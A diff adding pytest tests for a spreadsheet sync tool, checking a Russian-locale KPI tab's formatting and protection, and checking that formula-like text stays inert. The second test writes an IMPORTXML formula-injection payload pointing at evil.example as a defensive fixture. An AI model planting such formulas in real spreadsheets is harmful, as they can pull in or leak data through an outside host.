@@ -149,3 +149,39 @@ def test_faults_end_with_new_tab_or_old_tab(emulator: EmulatorProcess) -> None:
     emulator.unshare(sid)
     with pytest.raises(NotShared, match="Share"):
         sync(emulator, sid, again.state, force=True)
+
+
+def test_kpi_tab_has_formats_note_protection_and_chart(emulator: EmulatorProcess) -> None:
+    sid = copy_of(emulator, "demo_ru", "ru_RU")
+    sync(emulator, sid)
+    client = make_client({"SHEETS_EMULATOR_HOST": emulator.host})
+    meta = client.http_client.fetch_sheet_metadata(sid, params={
+        "includeGridData": "true", "ranges": "'Показатели'!A1:C12"})
+    sheet = next(s for s in meta["sheets"] if s["properties"]["title"] == "Показатели")
+    assert sheet["protectedRanges"][0]["warningOnly"] is True
+    assert "sheets-sync" in sheet["protectedRanges"][0]["description"]
+    assert len(sheet.get("charts", [])) == 1
+    rows = sheet["data"][0]["rowData"]
+    assert "sheets-sync" in rows[0]["values"][0]["note"]
+    shown = client.open_by_key(sid).worksheet("Показатели").get_values("A1:C12")
+    header = next(i for i, r in enumerate(shown) if r and r[0] == "Стадия")
+    step = shown[header + 2][2]  # leads -> briefs, rendered by the sheet's ru_RU locale
+    assert step.endswith("%") and "," in step, step
+
+
+def test_text_that_looks_like_a_formula_stays_text(emulator: EmulatorProcess) -> None:
+    sid = copy_of(emulator, "demo_en", "en_US")
+    client = make_client({"SHEETS_EMULATOR_HOST": emulator.host})
+    client.open_by_key(sid).worksheet("Funnel").update(
+        [['=IMPORTXML("http://evil.example","//a")']], "C5", raw=True)
+    outcome = sync(emulator, sid)
+    assert outcome.problems >= 1
+    formulas = client.open_by_key(sid).worksheet("KPI").get_values(value_render_option="FORMULA")
+    texts = [c for r in formulas for c in r if "IMPORTXML" in str(c)]
+    assert texts, "the bad value is listed among the problems"
+    meta = client.http_client.fetch_sheet_metadata(sid, params={
+        "includeGridData": "true", "ranges": "'KPI'"})
+    entered = [v.get("userEnteredValue", {}) for row in meta["sheets"][0]["data"][0]["rowData"]
+               for v in row.get("values", [])]
+    imports = [e for e in entered if "IMPORTXML" in str(e)]
+    assert imports and all("formulaValue" not in e for e in imports)
